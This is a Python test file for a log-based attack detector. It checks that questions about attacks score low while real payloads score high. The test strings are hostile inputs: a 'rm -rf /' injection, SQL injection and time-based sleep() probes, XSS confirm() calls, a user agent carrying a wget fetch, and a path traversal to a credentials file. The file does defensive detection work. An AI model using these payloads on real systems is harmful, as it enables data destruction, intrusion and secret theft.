from __future__ import annotations

import pytest

from logvision.detect.fusion import Evidence, fuse
from logvision.detect.units import Kind
from logvision.detect.verify import verify
from logvision.detect.verify.prose import in_prose
from logvision.schema import Attack


def score(text: str, kind: Kind = Kind.VALUE) -> float:
    return fuse(verify(text.encode(), kind)).score


@pytest.mark.parametrize(
    ("text", "ended_begun"),
    [
        ("what does rm -rf / do", (False, True)),
        ("select * from users explained", (True, False)),
        ("confirm(x) in the console", (True, False)),
        ("what does confirm(x) do", (False, True)),
        ("1;confirm(x) in the console", (False, False)),
        ("1' or '1'='1", (False, False)),
        ("1' or 1=1 -- explained", (False, False)),  # a comment mark swallows the word
        ("how to x' union select 1 -- meaning", (False, False)),
    ],
)
def test_sentences_are_told_from_payloads(text: str, ended_begun: tuple[bool, bool]) -> None:
    assert in_prose(text) == ended_begun


def test_a_question_about_an_attack_is_none() -> None:
    assert score("what does rm -rf / do") < 0.5 < score("; rm -rf /")


def test_words_before_a_closed_quote_do_not_save_an_injection() -> None:
    assert score("how to cook' AND 5=5 AND 'x'='x") >= 0.5


def test_what_an_agent_lists_in_its_comment_is_no_command() -> None:
    assert score("Dalvik/1.6.0 (Linux; U; Android 4.4.2; DASH JR 3G Build/KOT49H)", Kind.AGENT) == 0
    assert score("Mozilla/5.0 (X11; Linux); wget http://192.0.2.1/x", Kind.AGENT) >= 0.5


def test_a_page_of_a_repository_may_show_any_file() -> None:
    found = Evidence("sensitive-files", Attack.SENSITIVE, 0.95)
    shown = verify(b"/acme/app/blob/main/.npmrc", Kind.PATH)
    assert fuse([found, *shown]).score < 0.5 <= fuse([found]).score
    assert fuse([found, *verify(b"/acme/app/blob/main/../../../.npmrc", Kind.PATH)]).score >= 0.5


@pytest.mark.parametrize("text", ["sleep(5)", "sleep(5)#", "1 or sleep(if(1=1,5,0))"])
def test_a_delay_has_a_duration(text: str) -> None:
    assert score(text) >= 0.5


def test_brackets_after_a_word_hold_prose() -> None:
    assert score("sleep(less) in seattle") < 0.5
    assert score("POLYGON((30 10,40 40,20 40,30 10))") < 0.5
